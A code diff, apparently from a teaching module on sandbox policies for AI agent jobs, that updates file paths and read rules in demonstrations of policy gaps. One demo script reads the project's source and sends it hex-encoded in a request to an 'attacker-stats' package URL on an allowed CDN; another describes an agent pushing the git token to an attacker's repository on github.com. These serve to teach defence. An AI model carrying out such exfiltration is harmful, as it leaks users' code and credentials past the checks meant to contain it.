@@ -122,8 +122,8 @@ def get(url):
         print("GET", url[:60], "failed:", e)
 
 get("https://cdn.jsdelivr.net/npm/left-pad@1.3.0/index.js")  # the job's own download
-source = open("/project/src/main.py", "rb").read()[:300]   # the job reads the source: the policy must allow it
-print("read", len(source), "bytes of /project/src/main.py")
+source = open("/app/workspace/src/index.js", "rb").read()[:300]   # the job reads the source: the policy must allow it
+print("read", len(source), "bytes of /app/workspace/src/index.js")
 get("https://cdn.jsdelivr.net/npm/attacker-stats@1.0.0/" + binascii.hexlify(source).decode() + ".js")
 '''
 
@@ -148,10 +148,13 @@ def _git_credentials() -> Demo:
 
 
 def _url_stats() -> Demo:
-    return Demo(Job(URL_STATS), canaries={"/project/src/main.py": "the project's source"})
+    return Demo(Job(URL_STATS), canaries={"/app/workspace/src/index.js": "the project's source"})
 
 
-_TIGHT_FS = {"allowRead": ["/project/src"], "allowWrite": ["/project/out"]}
+# Reads are open by default (srt): every region that holds a secret is hidden with denyRead, and allowRead
+# re-opens what the demos' jobs read (the workspace's source). Not lesson 03's task: its answer stays the learner's.
+_HIDDEN = ["/home/user", "/etc/secrets", "/project", "/app/workspace"]
+_TIGHT_FS = {"denyRead": _HIDDEN, "allowRead": ["/app/workspace/src"]}
 
 GAPS: tuple[Gap, ...] = (
     Gap(
@@ -187,7 +190,7 @@ GAPS: tuple[Gap, ...] = (
         "The job pushes to github.com, so git must read ~/.git-credentials and github.com must be "
         "allowed. A filesystem rule cannot tell git reading the token from the agent reading it: the "
         "agent pushes the token to a repository of the attacker's on the same github.com.",
-        {"filesystem": {"allowRead": ["/project/src", "/home/user/.git-credentials"], "allowWrite": ["/project/out"]},
+        {"filesystem": {"denyRead": _HIDDEN, "allowRead": ["/app/workspace/src", "/home/user/.git-credentials"]},
          "network": {"allowedDomains": ["github.com"]}},
         _git_credentials,
         "predicted, not run: the token in ~/.git-credentials arrives at github.com in the body of a push to "
